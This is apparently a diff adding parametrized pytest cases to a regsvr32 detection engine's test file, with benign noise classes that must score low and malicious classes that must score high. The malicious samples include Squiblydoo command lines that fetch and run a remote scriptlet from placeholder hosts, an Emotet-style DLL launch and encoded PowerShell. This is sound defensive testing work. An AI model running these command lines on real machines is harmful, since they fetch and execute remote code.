@@ -78,3 +78,47 @@ def test_scores_stay_within_0_and_100():
     v = DETECTOR.evaluate(proc("regsvr32 /s /u /i:http://0x0a010203/a.sct C:\\Users\\Public\\x.jpg",
                                parent=OFFICE))
     assert v.score == 100
+
+
+SYS = "C:\\Windows\\System32\\"
+# The classes of noise and misses named in the precision issue, one line each (written for this
+# test), with the band they must stay below or reach. The corpora measure the rates.
+QUIET = [
+    ("active setup /i:/UserInstall with %SystemRoot%",
+     proc("regsvr32.exe /s /n /i:/UserInstall %SystemRoot%\\system32\\themeui.dll", parent="C:\\Windows\\explorer.exe")),
+    ("vendor module taking a folder through /i:",
+     proc('regsvr32 /s /n /i:"C:\\ProgramData\\Vendor" "C:\\Program Files\\Vendor\\x.dll"', parent=SYS + "msiexec.exe")),
+    ("unquoted Program Files path",
+     proc("regsvr32.exe /u C:\\Program Files (x86)\\Vendor\\player.ocx", parent="C:\\Users\\bob\\AppData\\Local\\Temp\\_iu38F2A.tmp")),
+    ("per-user install by its own updater",
+     proc('regsvr32 /s "C:\\Users\\bob\\AppData\\Local\\Vendor\\2.1\\ext64.dll"', parent="C:\\Users\\bob\\AppData\\Local\\Vendor\\Update.exe")),
+    ("developer build output", proc("regsvr32 x64\\Release\\Ext.dll", CurrentDirectory="C:\\Users\\bob\\source\\repos\\Ext\\")),
+    ("PowerShell deployment of a Program Files module", proc('regsvr32 /s "C:\\Program Files\\Vendor\\x.dll"', parent=PS)),
+    ("Java desktop application", proc('regsvr32 /s "C:\\Program Files\\Vendor\\x.dll"', parent="C:\\Program Files\\Java\\bin\\javaw.exe")),
+    ("IE repair /s /i on a system module", proc("regsvr32 /s /i shdocvw.dll")),
+    ("line-of-business software on D:", proc('regsvr32 /s "D:\\Apps\\LOB\\bin\\lob.ocx"')),
+    ("a control on the Desktop, registered by hand", proc("regsvr32 C:\\Users\\bob\\Desktop\\MSCOMCTL.OCX")),
+]
+LOUD = [
+    ("a DLL in Users\\Public", proc("regsvr32 /s C:\\Users\\Public\\x.dll")),
+    ("Emotet's random System32 folder", proc('regsvr32.exe /s "C:\\Windows\\SysWOW64\\Dczxlq\\pmcm.tlv"')),
+    ("a bare module at the root of a mounted ISO", proc("regsvr32.exe  data.dll", CurrentDirectory="E:\\")),
+    ("Squiblydoo on a renamed image without OriginalFileName",
+     {"EventCode": "4688", "NewProcessName": "C:\\ProgramData\\j.exe", "CommandLine": "j.exe /s /u /i:http://203.0.113.9/a.sct scrobj.dll"}),
+    ("regsvr32 hidden in encoded PowerShell",
+     {"EventCode": "1", "Image": PS, "CommandLine": "powershell -enc cgBlAGcAcwB2AHIAMwAyACAALwBzACAAQwA6AFwAVQBzAGUAcgBzAFwAUAB1AGIAbABpAGMAXAB4AC4AZABsAGwA"}),
+    ("/n /i:<code word> from a script host",
+     proc('regsvr32 -n -i:"Install" C:\\Users\\bob\\AppData\\Local\\FontPack\\main.dll', parent="C:\\Windows\\System32\\wscript.exe")),
+]
+
+
+@pytest.mark.parametrize("record", [r for _, r in QUIET], ids=[n for n, _ in QUIET])
+def test_noise_classes_stay_below_medium(record):
+    v = DETECTOR.evaluate(record)
+    assert v.score < 40 or "Desktop" in str(v.reasons) and v.score < 60, v.reasons
+
+
+@pytest.mark.parametrize("record", [r for _, r in LOUD], ids=[n for n, _ in LOUD])
+def test_missed_classes_reach_high(record):
+    v = DETECTOR.evaluate(record)
+    assert v.score >= 60, v.reasons
